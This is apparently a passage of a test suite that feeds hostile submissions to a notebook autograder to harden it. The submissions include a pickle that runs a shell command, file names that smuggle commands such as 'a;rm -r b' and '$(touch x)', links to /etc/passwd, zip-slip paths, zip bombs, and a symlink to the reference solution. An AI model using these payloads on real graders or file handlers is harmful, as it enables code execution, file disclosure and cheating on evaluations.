    "cells_million": ("a million cells", lambda: '{"nbformat": 4, "cells": [' + "{}," * 1_000_000 + "{}]}"),
    "marks": ("a cell with 100,000 marks", lambda: notebook("#| exercise: gamma_func\n#| exercise: x\n" * 100_000)),
    "statements": ("100,000 statements", lambda: notebook(*["a = a\n" * 1000] * 100)),
    "deleted": ("the answer's cell is gone", notebook(cell("# 4", "markdown"), "import math")),
    "starter": ("the starter as it was handed out", notebook(
        marked("def gamma_func(mode='cosine'):\n    raise NotImplementedError"))),
    "import_only": ("an import in the place of the answer", notebook(marked("from solutions import gamma_func"))),
})
notebooks(None, {
    "bom": ("begins with a byte order mark", b"\xef\xbb\xbf" + HONEST.encode()),
    "utf16": ("UTF-16", HONEST.encode("utf-16")),
    "format_3": ("the format of before 2015", json.dumps({"nbformat": 3, "worksheets": [{"cells": [
        {"cell_type": "code", "language": "python", "input": marked(RIGHT), "outputs": []}]}]})),
    "in_text_cell": ("the answer in a text cell", notebook(cell(marked(RIGHT), "markdown"))),
    "in_raw_cell": ("the answer in a cell of a type that does not exist", notebook(cell(marked(RIGHT), "raw"))),
    "duplicated": ("the answer's cell twice, with the same id", notebook(marked(RIGHT), marked(RIGHT))),
    "split": ("the answer over two cells", notebook("import math\ndef helper(r): return 0 * r\n", marked(
        RIGHT + "\nplus = helper\n"))),
    "unmarked": ("a cell without its mark", notebook(RIGHT)),
    "after_damage": ("a broken cell before it", notebook("def broken(:", marked("((((("), marked(RIGHT))),
    "carriage": ("lines that end as on Windows", notebook(marked(RIGHT).replace("\n", "\r\n"))),
    "metadata_odd": ("metadata of all sorts", json.dumps({"nbformat": "x", "metadata": [], "cells": [
        cell(marked(RIGHT).splitlines(keepends=True), outputs=3, metadata=None, id={})]})),
})


@attack("a sparse notebook of 200 MB")
def sparse(place):
    folder(place.path, HONEST)
    os.truncate(place.path / NOTEBOOKS["gamma_func"], 200_000_000)


# Folders and files of odd kinds


@attack("a pipe, a device's link and a link in a circle beside the notebook", points=None)
def odd_files(place):
    folder(place.path, HONEST)
    os.mkfifo(place.path / "01_pipe.ipynb")
    (place.path / "circle").symlink_to(".")
    (place.path / "02_link.ipynb").symlink_to("/dev/zero")
    (place.path / "03_gone.ipynb").symlink_to("nowhere")
    (place.path / "work").mkdir()
    os.mkfifo(place.path / "work" / "maskgit.safetensors")


@attack("the notebook is a pipe")
def pipe(place):
    place.path.mkdir()
    os.mkfifo(place.path / NOTEBOOKS["gamma_func"])


@attack("the notebook is a link to the reference answer")
def linked(place):
    place.path.mkdir()
    (place.path / NOTEBOOKS["gamma_func"]).symlink_to(ROOT / "solutions" / "04_gamma_schedules.ipynb")


@attack("nothing at all")
def empty(place):
    (place.path / "work").mkdir(parents=True)


@attack("a hundred folders in one another", points=None)
def deep(place):
    folder(place.path, HONEST)
    (place.path / "/".join(["d"] * 100)).mkdir(parents=True)


@attack("notebooks of odd names", points=None)
def odd_names(place):
    folder(place.path, HONEST)
    for name in ("-rf.ipynb", "a;rm -r b.ipynb", "=cmd().ipynb", "<script>.ipynb", "x" * 240 + ".ipynb", "\n.ipynb",
                 "\u202e.ipynb", ".ipynb", "$(touch x).ipynb"):
        (place.path / name).write_text(notebook("pass"))
    with open(os.fsencode(place.path) + b"/\xff\xfe.ipynb", "wb") as file:
        file.write(b"{}")


def models(contents):
    """Register honest submissions with a model that is none: it costs nothing else."""
    for name, (about, content) in contents.items():
        def build(place, content=content):
            folder(place.path, HONEST)
            (place.path / "work").mkdir()
            path = place.path / "work" / "maskgit.safetensors"
            content(path) if callable(content) else path.write_bytes(content)

        attack(about, points=None, name=name)(build)


models({
    "model_pickle": ("a pickle that runs a command", b"cposix\nsystem\n(S'touch " + WRITTEN.encode() + b"'\ntR."),
    "model_cut": ("a model that is cut off", struct.pack("<Q", 1000) + b'{"a": '),
    "model_header": ("a model with a header of 2^63 bytes", struct.pack("<Q", 2**63 - 1) + b"{"),
    "model_link": ("a model that links to another file", lambda path: path.symlink_to("/etc/passwd")),
    "model_device": ("a model that links to a device", lambda path: path.symlink_to("/dev/zero")),
    "model_sparse": ("a model of 10 GB of nothing", lambda path: (path.touch(), os.truncate(path, 10_000_000_000))),
    "model_folder": ("a model that is a folder", lambda path: path.mkdir()),
})


# Archives


def packed(*entries, method=zipfile.ZIP_DEFLATED):
    """A zip of (name or ZipInfo, content)."""
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w", method) as archive:
        warnings.simplefilter("ignore")  # the same name twice
        for name, content in entries:
            archive.writestr(name, content)
    return made.getvalue()


def link_entry(name, target):
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry, target


def encrypted():
    """A zip whose entries claim to be encrypted."""
    data = bytearray(packed(("04_gamma_schedules.ipynb", HONEST)))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + offset] |= 1
    return bytes(data)


def lying():
    """A zip whose list claims small files."""
    data = bytearray(packed(("04_gamma_schedules.ipynb", b"[" * 500_000_000)))
    start = data.index(b"PK\x01\x02")
    data[start + 24:start + 28] = struct.pack("<I", 100)
    return bytes(data)


def archives(points, contents):
    for name, (about, content) in contents.items():
        def build(place, content=content):
            place.path.with_suffix(".zip").write_bytes(content() if callable(content) else content)

        attack(about, points=points, name=name)(build)


OURS = ("04_gamma_schedules.ipynb", HONEST)
archives(None, {
    "zip_slip": ("paths that lead out of the zip", packed(
        OURS, (f"../../{WRITTEN}", "x"), (f"..\\{WRITTEN}", "x"), ("../work/maskgit.safetensors", "x"))),
    "zip_absolute": ("absolute paths", packed(OURS, (f"/tmp/{WRITTEN}", "x"), (f"C:\\{WRITTEN}", "x"))),
    "zip_links": ("links to files outside", packed(
        OURS, link_entry("01.ipynb", "/etc/passwd"), link_entry("work/maskgit.safetensors", f"/tmp/{WRITTEN}"),
        ("work/maskgit.safetensors", "x"))),
    "zip_bomb": ("a notebook and a model that unpack to gigabytes", lambda: packed(
        OURS, ("bomb.ipynb", b"0" * 300_000_000), ("work/maskgit.safetensors", b"0" * 600_000_000))),
    "zip_entries": ("5000 files", lambda: packed(OURS, *((f"out/{i}.png", "") for i in range(5000)))),
    "zip_names": ("names of all sorts", packed(
        OURS, ("n\u00f6tb\u00f6\u00f6k \u202e\n.ipynb", "{}"), ("-rf", "x"), ("a;rm -r b", ""), ("CON.ipynb", "[]"),
        ("x" * 5000, ""), ("....//x.ipynb", ""))),
    "zip_duplicates": ("the same name twice and again in capitals", packed(OURS, OURS, (OURS[0].upper(), "[]"))),
    "zip_folder": ("all in a folder, with what macOS adds", packed(
        (f"mine/{OURS[0]}", HONEST), ("__MACOSX/mine/._04_gamma_schedules.ipynb", "\x00"), ("mine/.DS_Store", "x"))),
    "zip_prefix": ("a zip behind other bytes", b"MZ" * 1000 + packed(OURS)),
    "zip_nested": ("a zip in a zip in a zip", packed(("a.zip", packed(("b.zip", packed(OURS)))))),
})
archives(0, {
    "zip_empty": ("an empty zip", packed()),
    "zip_none": ("no zip", b"This is no zip."),
    "zip_cut": ("a zip that is cut off", packed(OURS, ("b", "c" * 9999))[:-40]),
    "zip_encrypted": ("an encrypted zip", encrypted()),
    "zip_lying": ("a zip that claims to be small", lying),
    "zip_lzma": ("a zip packed in another way", packed((zipfile.ZipInfo("a"), ""), OURS, method=zipfile.ZIP_LZMA)),
    "zip_offsets": ("a zip whose list points nowhere", packed(OURS).replace(b"PK\x01\x02", b"PK\x01\x03")),
})


@attack("a zip that is called a notebook")
def zip_as_notebook(place):
    place.path.mkdir()
    (place.path / NOTEBOOKS["gamma_func"]).write_bytes(packed(OURS))


@attack("a folder that holds a zip", points=None)
def zip_in_folder(place):
    place.path.mkdir()
    (place.path / "mine.zip").write_bytes(packed(OURS))
